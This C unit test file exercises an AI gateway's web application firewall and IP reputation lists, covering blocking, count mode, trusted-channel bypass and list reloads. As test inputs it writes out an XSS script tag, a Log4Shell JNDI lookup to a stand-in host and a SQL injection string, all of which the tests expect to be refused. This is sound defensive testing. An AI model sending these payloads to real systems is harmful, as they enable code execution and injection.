/* What the gate finds out about a request, and what a client is told: head, body, lists, who is not looked at. */
#include "unit/gateway/fake.h"
#include <unistd.h>

#define CONFIG "providers: [{type: echo}]\n"
#define BODY                                                                                       \
    "{\"model\":\"echo\",\"messages\":[{\"role\":\"user\",\"content\":\"<script>alert(1)</"        \
    "script>\"}]%s}"
#define JNDI ",\"metadata\":{\"a\":\"${jndi:ldap://e.example/a}\"}"

static aigw_header fields[5] = {{{"Host", 4}, {"gw.example.com", 14}},
                                {{"User-Agent", 10}, {"t/1", 3}},
                                {{"Content-Type", 12}, {"application/json", 16}},
                                {{"Content-Length", 14}, {"90", 2}},
                                {{"Accept", 6}, {"*/*", 3}}};

/* As a server on loopback passes it on. */
static aigw_request request_of(const char *path, const char *body)
{
    aigw_request request = fake_request(path, body);
    request.headers = fields;
    request.header_count = body ? 5 : 2;
    request.peer = GW_S("127.0.0.1");
    request.channel = AIGW_CHANNEL_CLEAR;
    return request;
}

static aigw_exchange *start(fake *f, const aigw_request *request)
{
    aigw_exchange *x = NULL;
    assert_int_equal(aigw_exchange_start(f->loop, request, NULL, NULL, &x, NULL), AIGW_OK);
    return x;
}

static int status_of(aigw_exchange *x)
{
    aigw_head head = {.size = sizeof head};
    return aigw_exchange_head(x, &head, NULL) == AIGW_OK ? head.status : 0;
}

static const char *body_with(const char *more)
{
    static char body[512];
    snprintf(body, sizeof body, BODY, more);
    return body;
}

static void passes_and_blocks(void **state)
{
    (void)state;
    fake *f = fake_new(CONFIG, NULL, 0);
    aigw_request request = request_of(OPENAI_PATH, body_with(""));
    aigw_exchange *x = start(f, &request);
    fake_steps(f);
    assert_int_equal(status_of(x), 200);
    assert_true(x->screen.looked && x->screen.end == GW_SCREEN_PASSED);
    assert_int_equal(x->screen.match_count, 0);
    assert_int_equal(x->screen.body_inspected, request.body.len);
    aigw_exchange_free(x);

    request = request_of(OPENAI_PATH "?a=%3Cscript%3Ealert(1)%3C/script%3E", body_with(""));
    x = start(f, &request);
    assert_int_equal(status_of(x), 403); /* at once */
    assert_int_equal(x->screen.end, GW_SCREEN_BY_WAF);
    assert_string_equal(x->screen.terminating->rule, "CrossSiteScripting_QUERYARGUMENTS");
    assert_ptr_equal(x->screen.terminating, &x->screen.matches[x->screen.match_count - 1]);
    assert_string_equal(x->reason, "waf");
    aigw_exchange_free(x);

    request = request_of(OPENAI_PATH, body_with(JNDI));
    x = start(f, &request);
    assert_int_equal(status_of(x), 403);
    assert_string_equal(x->screen.terminating->rule, "Log4JRCE_BODY");
    assert_string_equal(x->screen.terminating->location, "json:/metadata/a");
    gw_buf out;
    gw_buf_init(&out, 4096);
    fake_read(x, &out);
    gw_buf_putc(&out, 0);
    assert_non_null(strstr(gw_buf_slice(&out).data, "The request was refused."));
    assert_null(strstr(gw_buf_slice(&out).data, "jndi"));
    gw_buf_free(&out);
    aigw_exchange_free(x);
    fake_free(f);
}

/* Who vouches for a request, and who has switched it off. */
static void not_looked_at(void **state)
{
    (void)state;
    for (int off = 0; off < 2; off++) {
        fake *f = fake_new(off ? CONFIG "enable_waf: false\n" : CONFIG, NULL, 0);
        aigw_request request = request_of(OPENAI_PATH "?a=%3Cscript%3E", body_with(JNDI));
        if (!off)
            request.channel = AIGW_CHANNEL_VOUCHED;
        aigw_exchange *x = start(f, &request);
        fake_steps(f);
        assert_int_equal(status_of(x), 200);
        assert_false(x->screen.looked);
        assert_true(x->has_client_ip);
        assert_true((f->loop->held->live->screen.waf != NULL) == !off);
        aigw_exchange_free(x);
        fake_free(f);
    }
}

/* The body comes later: it is judged then, whoever wanted it, and parsed once. */
static void later_body(void **state)
{
    (void)state;
    static const struct {
        const char *path, *more; /* NULL: an empty object */
        int status;
    } asks[] = {{OPENAI_PATH, "", 200},  {OPENAI_PATH, JNDI, 403},  {"/nowhere", JNDI, 403},
                {"/nowhere", NULL, 404}, {"/v1/models", JNDI, 403}, {"/v1/models", NULL, 405}};
    fake *f = fake_new(CONFIG, NULL, 0);
    for (size_t i = 0; i < sizeof asks / sizeof *asks; i++) {
        aigw_request request = request_of(asks[i].path, "");
        request.method = GW_S("POST");
        request.body_follows = true;
        aigw_exchange *x = start(f, &request);
        assert_int_equal(status_of(x), 0);
        bool ours = i < 2;
        assert_true(ours ? aigw_exchange_body_max(x) > 65536 : aigw_exchange_body_max(x) == 65536);
        assert_int_equal(aigw_exchange_body(
                             x, aigw_slice_of(asks[i].more ? body_with(asks[i].more) : "{}"), NULL),
                         AIGW_OK);
        fake_steps(f);
        assert_int_equal(status_of(x), asks[i].status);
        assert_true(x->parsed == (ours && asks[i].status == 200) || asks[i].status == 403);
        aigw_exchange_free(x);
    }
    fake_free(f);
}

static void what_is_no_json(void **state)
{
    (void)state;
    fake *f = fake_new(CONFIG, NULL, 0);
    static const struct {
        const char *body;
        int status;
    } asks[] = {{"{\"model\":}", 400},
                {"[1]", 400},
                {"[\"${jndi:ldap://e.example/a}\"]", 403},
                {"{\"a\":${jndi:ldap://e.example/a}", 403}};
    for (size_t i = 0; i < 4; i++) {
        aigw_request request = request_of(OPENAI_PATH, asks[i].body);
        aigw_exchange *x = start(f, &request);
        assert_int_equal(status_of(x), asks[i].status);
        assert_string_equal(x->reason, asks[i].status == 400 ? "bad_request" : "waf");
        aigw_exchange_free(x);
    }
    fake_free(f);
}

static void counts_are_kept(void **state)
{
    (void)state;
    fake *f =
        fake_new(CONFIG "waf: {mode: count, max_body_bytes: 10, content: count-full}\n", NULL, 0);
    aigw_request request = request_of(OPENAI_PATH "?a=1%27%20or%20%271%27=%271", body_with(JNDI));
    aigw_exchange *x = start(f, &request);
    fake_steps(f);
    assert_int_equal(status_of(x), 200);
    assert_null(x->screen.terminating);
    assert_true(x->screen.oversize);
    unsigned seen = 0;
    for (size_t i = 0; i < x->screen.match_count; i++) {
        const aigw_waf_match *m = &x->screen.matches[i];
        assert_int_equal(m->action, AIGW_WAF_COUNT);
        seen |= strcmp(m->rule, "SQLi_QUERYARGUMENTS") == 0 ? 1u : 0u;
        seen |= strcmp(m->rule, "Log4JRCE_BODY") == 0 ? 2u : 0u;
        seen |= strcmp(m->label, "aigw:waf:content:CrossSiteScripting") == 0 ? 4u : 0u;
    }
    assert_int_equal(seen, 7);
    aigw_exchange_free(x);
    fake_free(f);
}

/* -- lists -- */

static char path[64];

static void write_list(const char *text)
{
    if (!path[0]) {
        snprintf(path, sizeof path, "/tmp/aigw_screen_XXXXXX");
        int fd = mkstemp(path);
        assert_true(fd >= 0);
        close(fd);
    }
    FILE *file = fopen(path, "w");
    assert_non_null(file);
    fputs(text, file);
    assert_int_equal(fclose(file), 0);
}

static fake *with_list(const char *slot, const char *more)
{
    char config[512];
    snprintf(config, sizeof config,
             CONFIG "server: {trusted_proxies: [127.0.0.1], insecure_no_auth: true}\n"
                    "waf: {ip_reputation: {%s: [%s], check_s: 60}%s}\n",
             slot, path, more);
    return fake_new(config, NULL, 0);
}

static int from(fake *f, const char *address, const char *query, gw_screened *out)
{
    char target[128];
    snprintf(target, sizeof target, "/v1/models%s", query);
    aigw_header own[3] = {fields[0], fields[1], {GW_S("X-Forwarded-For"), aigw_slice_of(address)}};
    aigw_request request = request_of(target, NULL);
    request.headers = own;
    request.header_count = 3;
    aigw_exchange *x = start(f, &request);
    fake_steps(f);
    int status = status_of(x);
    *out = x->screen;
    aigw_exchange_free(x);
    return status;
}

static void lists_by_name(void **state)
{
    (void)state;
    static const struct {
        const char *slot, *rule;
        int status;
    } slots[] = {{"reputation", "AWSManagedIPReputationList", 403},
                 {"reconnaissance", "AWSManagedReconnaissanceList", 403},
                 {"ddos", "AWSManagedIPDDoSList", 200}};
    gw_screened s;
    char label[96];
    write_list("198.51.100.0/24\n");
    for (size_t i = 0; i < 3; i++) {
        fake *f = with_list(slots[i].slot, "");
        assert_int_equal(from(f, "198.51.100.9", "", &s), slots[i].status);
        assert_string_equal(s.reputation.rule, slots[i].rule);
        snprintf(label, sizeof label, "awswaf:managed:aws:amazon-ip-list:%s", slots[i].rule);
        assert_string_equal(s.reputation.label, label);
        assert_int_equal(s.end, i < 2 ? GW_SCREEN_BY_REPUTATION : GW_SCREEN_PASSED);
        assert_int_equal(from(f, "198.51.101.9", "", &s), 200);
        assert_int_equal(s.reputation.action, AIGW_WAF_DEFAULT);
        fake_free(f);
    }
}

/* Reported as AWS would: the common rules before the lists, all others behind. */
static void priorities(void **state)
{
    (void)state;
    gw_screened s;
    write_list("198.51.100.0/24\n");
    fake *f = with_list("reputation", "");
    assert_int_equal(from(f, "198.51.100.9", "?a=%3Cscript%3Ealert(1)%3C/script%3E", &s), 403);
    assert_int_equal(s.end, GW_SCREEN_BY_WAF);
    assert_int_equal(s.reputation.action, AIGW_WAF_DEFAULT);
    assert_int_equal(from(f, "198.51.100.9", "?a=$%7Bjndi:ldap://e/a%7D", &s), 403);
    assert_int_equal(s.end, GW_SCREEN_BY_REPUTATION);
    assert_int_equal(s.match_count, 0);
    assert_null(s.terminating);
    fake_free(f);
}

static void no_address(void **state)
{
    (void)state;
    write_list("127.0.0.1\n");
    fake *f = with_list("reputation", "");
    aigw_request request = request_of("/v1/models", NULL);
    request.channel = AIGW_CHANNEL_TLS;
    request.peer = GW_S("");
    aigw_exchange *x = start(f, &request);
    fake_steps(f);
    assert_int_equal(status_of(x), 200);
    assert_false(x->has_client_ip);
    assert_int_equal(x->screen.reputation.action, AIGW_WAF_DEFAULT);
    aigw_exchange_free(x);
    fake_free(f);
}

static size_t entries(fake *f)
{
    aigw_iprep_facts facts;
    aigw_iprep_facts_of(f->loop->held->live->screen.iprep, AIGW_IPREP_REPUTATION, &facts);
    return facts.entries;
}

/* A change is read when the file has stood still for a second; nothing is looked at before its time. */
static void changes(void **state)
{
    (void)state;
    gw_screened s;
    write_list("198.51.100.1\n198.51.100.2\n");
    fake *f = with_list("reputation", "");
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    write_list("203.0.113.1\n203.0.113.2\n203.0.113.3\n");
    fake_pass(f, 59999);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    fake_pass(f, 1);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200); /* seen */
    fake_pass(f, 999);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    fake_pass(f, 1);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 403);
    assert_int_equal(entries(f), 3);
    assert_int_equal(unlink(path), 0);
    path[0] = '\0';
    for (int i = 0; i < 4; i++) {
        fake_pass(f, 60000);
        assert_int_equal(from(f, "203.0.113.1", "", &s), 403);
    }
    assert_non_null(strstr(f->log, "does not exist"));
    char *at = strstr(f->log, "ip_list_refused");
    assert_null(strstr(at + 1, "ip_list_refused")); /* said once */
    fake_free(f);
}

/* While a file still grows it is not read. */
static void growing(void **state)
{
    (void)state;
    gw_screened s;
    write_list("198.51.100.1\n");
    fake *f = with_list("reputation", "");
    assert_int_equal(from(f, "198.51.100.1", "", &s), 403);
    char text[256] = "203.0.113.1\n";
    fake_pass(f, 60000);
    for (int i = 0; i < 5; i++) {
        strcat(text, "203.0.113.2\n");
        write_list(text);
        assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
        fake_pass(f, 1000);
    }
    assert_int_equal(from(f, "203.0.113.1", "", &s), 403);
    fake_free(f);
}

/* The lists stay over a reload; how often they are looked at is the new config's at once. */
static void sooner(void **state)
{
    (void)state;
    gw_screened s;
    char config[512];
#define SOONER                                                                                     \
    CONFIG "server: {trusted_proxies: [127.0.0.1], insecure_no_auth: true}\n"                      \
           "waf: {ip_reputation: {reputation: [%s], check_s: %d}}\n"
    write_list("198.51.100.1\n");
    snprintf(config, sizeof config, SOONER, path, 86400);
    fake *f = fake_new(config, NULL, 0);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    snprintf(config, sizeof config, SOONER, path, 60);
    assert_int_equal(aigw_gateway_reload(f->gw, aigw_slice_of(config), NULL), AIGW_OK);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    write_list("198.51.100.1\n203.0.113.1\n");
    fake_pass(f, 60000);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200); /* seen */
    fake_pass(f, 1000);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 403);
    /* A clock that goes ahead and back stops nobody from looking. */
    fake_pass(f, 1000000000);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 403);
    fake_pass(f, -1000000000);
    write_list("198.51.100.1\n198.51.100.2\n");
    assert_int_equal(from(f, "203.0.113.1", "", &s), 403); /* seen */
    fake_pass(f, 1000);
    assert_int_equal(from(f, "203.0.113.1", "", &s), 200);
    fake_free(f);
}

/* A reload that changes nothing keeps both; other rules make another WAF, other files another set. */
static void reloads(void **state)
{
    (void)state;
    char same[256], other[256];
    write_list("198.51.100.1\n");
    snprintf(same, sizeof same, CONFIG "waf: {ip_reputation: {reputation: [%s]}}\n", path);
    snprintf(other, sizeof other, CONFIG "waf: {mode: count, ip_reputation: {ddos: [%s]}}\n", path);
    fake *f = fake_new(same, NULL, 0);
    gw_live *first = gw_gateway_live(f->gw, NULL);
    assert_int_equal(aigw_gateway_reload(f->gw, aigw_slice_of(same), NULL), AIGW_OK);
    gw_live *second = gw_gateway_live(f->gw, NULL);
    assert_ptr_equal(first->screen.waf, second->screen.waf);
    assert_ptr_equal(first->screen.iprep, second->screen.iprep);
    assert_int_equal(aigw_gateway_reload(f->gw, aigw_slice_of(other), NULL), AIGW_OK);
    gw_live *third = gw_gateway_live(f->gw, NULL);
    assert_ptr_not_equal(first->screen.waf, third->screen.waf);
    assert_ptr_not_equal(first->screen.iprep, third->screen.iprep);
    assert_int_equal(aigw_gateway_reload(f->gw, aigw_slice_of(CONFIG "enable_waf: false\n"), NULL),
                     AIGW_OK);
    gw_live *fourth = gw_gateway_live(f->gw, NULL);
    assert_null(fourth->screen.waf);
    gw_live_free(first);
    gw_live_free(second);
    gw_live_free(third);
    gw_live_free(fourth);
    fake_free(f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(passes_and_blocks),
        cmocka_unit_test(not_looked_at),
        cmocka_unit_test(later_body),
        cmocka_unit_test(what_is_no_json),
        cmocka_unit_test(counts_are_kept),
        cmocka_unit_test(lists_by_name),
        cmocka_unit_test(priorities),
        cmocka_unit_test(no_address),
        cmocka_unit_test(changes),
        cmocka_unit_test(growing),
        cmocka_unit_test(sooner),
        cmocka_unit_test(reloads),
    };
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    if (path[0])
        unlink(path);
    return failed;
}
